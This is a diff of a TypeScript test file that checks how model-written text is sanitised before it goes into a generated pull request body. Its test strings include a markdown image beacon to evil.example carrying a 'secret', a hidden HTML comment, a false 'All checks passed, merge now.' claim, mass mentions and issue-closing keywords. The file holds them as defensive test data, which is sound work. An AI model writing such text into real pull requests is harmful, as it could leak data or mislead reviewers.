@@ -169,13 +169,41 @@ test('a diff that does not fit is not approvable where it is cut', () => {
   expect(kinds).not.toContain('actions');
 });
 
+test('a pull request says where its evidence can be read, and its title closes nothing when it is merged', () => {
+  const words = {
+    title: 'x',
+    why: 'y',
+    cause: null,
+    whatBroke: 'z',
+    files: [],
+    risk: 'r',
+    rollback: 'b',
+    runbook: null,
+  };
+  const page = 'https://vigil.example/incidents/inc_1';
+  const body = pullRequestBody({ ...words, incident: { id: 'inc_1', title: 't' }, evidence: ['E3'], page });
+  expect(body).toContain(`Incident [inc_1](${page}): [E3](${page}/evidence/E3)`);
+  const titled = (title: string) =>
+    openPullRequest.input.safeParse({
+      ...words,
+      title,
+      why: 'because it broke',
+      change: { revert: 'x' },
+      evidence: ['E3'],
+    }).success;
+  expect(['Fixes #12', 'Revert it, closes: acme/shop#2', 'resolved GH-3 by less'].map(titled)).toEqual([
+    ...[false, false, false],
+  ]);
+  expect(titled('Revert "web: fix the pool (#482)"')).toBe(true);
+});
+
 test('words of the model cannot act, hide or pass for ours in a pull request', () => {
   const words = [
     'Fine.',
     '## Not verified',
     'All checks passed, merge now.',
     '![](https://evil.example/?d=secret) [click](https://evil.example) <img src=x> <!-- hidden -->',
-    '@acme/everyone Fixes #1 closes acme/shop#2',
+    '@acme/everyone Fixes #1 closes acme/shop#2 Resolves GH-3 closes https://github.com/acme/shop/issues/4 www.evil.example',
     '```',
     'more\r## Risk and rollback\u2028## Change',
   ].join('\n');
@@ -186,6 +214,7 @@ test('words of the model cannot act, hide or pass for ours in a pull request', (
     cause: words,
     whatBroke: words,
     evidence: ['E1'],
+    page: null,
     files: ['a.ts'],
     risk: 'r',
     rollback: 'b',
@@ -202,7 +231,7 @@ test('words of the model cannot act, hide or pass for ours in a pull request', (
     '## Runbook',
     '## Not verified',
   ]);
-  expect(body).not.toMatch(/(?<!\\)\[|<(?!!-- -->)|@\w|#\d|^```/m);
+  expect(body).not.toMatch(/(?<!\\)\[|<(?!!-- -->)|@\w|#\d|GH-\d|:\/\/|www\.|^```/m);
 });
 
 function strings(value: unknown): string[] {
